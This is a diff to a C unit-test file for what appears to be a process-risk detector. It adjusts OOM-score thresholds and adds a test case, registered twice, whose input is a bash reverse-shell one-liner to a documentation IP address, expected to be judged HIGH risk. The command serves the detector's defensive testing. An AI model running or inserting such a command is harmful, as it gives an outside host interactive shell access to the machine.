@@ -18,8 +18,8 @@ static const struct row rows[] = {
 	{ "thread-hog", NONE, { .threads = 1000 } },
 	{ "io-hog", LOW, { .read_rate = 60 << 20, .write_rate = 50 << 20 } },
 	{ "io-hog", NONE, { .read_rate = 60 << 20, .write_rate = 30 << 20 } },
-	{ "oom-candidate", LOW, { .oom = 1000 } },
-	{ "oom-candidate", NONE, { .oom = 999 } },
+	{ "oom-candidate", LOW, { .oom = 1001 } },
+	{ "oom-candidate", NONE, { .oom = 1000 } },
 	{ "exe-deleted", MEDIUM, { DELETED("/usr/bin/x") } },
 	{ "exe-deleted", HIGH, { DELETED("/var/tmp/x") } },
 	{ "exe-deleted", NONE, { DELETED("/memfd:x") } },
@@ -268,6 +268,20 @@ static const struct {
 	{ { "socat", "TCP-LISTEN:80,fork", "UNIX:/run/web" }, NONE },
 };
 
+START_TEST(code_is_found_behind_other_options_that_may_take_some)
+{
+	const struct row row = {
+		"inline-payload",
+		HIGH,
+		{ .exe = "/bin/sh",
+		  .args = { "sh", "-e", "-c",
+			    "bash -i >& /dev/tcp/192.0.2.1/443 0>&1" } },
+	};
+
+	judge(&row);
+}
+END_TEST
+
 START_TEST(a_tool_for_connections_is_told_when_it_joins_a_shell)
 {
 	struct row row = { "inline-payload",
@@ -360,6 +374,10 @@ int main(void)
 			    SMI_COUNT(miner_words));
 	tcase_add_loop_test(tc, code_among_arguments_is_told_by_what_it_is_for,
 			    0, SMI_COUNT(codes));
+	tcase_add_test(tc,
+		       code_is_found_behind_other_options_that_may_take_some);
+	tcase_add_test(tc,
+		       code_is_found_behind_other_options_that_may_take_some);
 	tcase_add_loop_test(
 		tc, a_tool_for_connections_is_told_when_it_joins_a_shell, 0,
 		SMI_COUNT(joined));
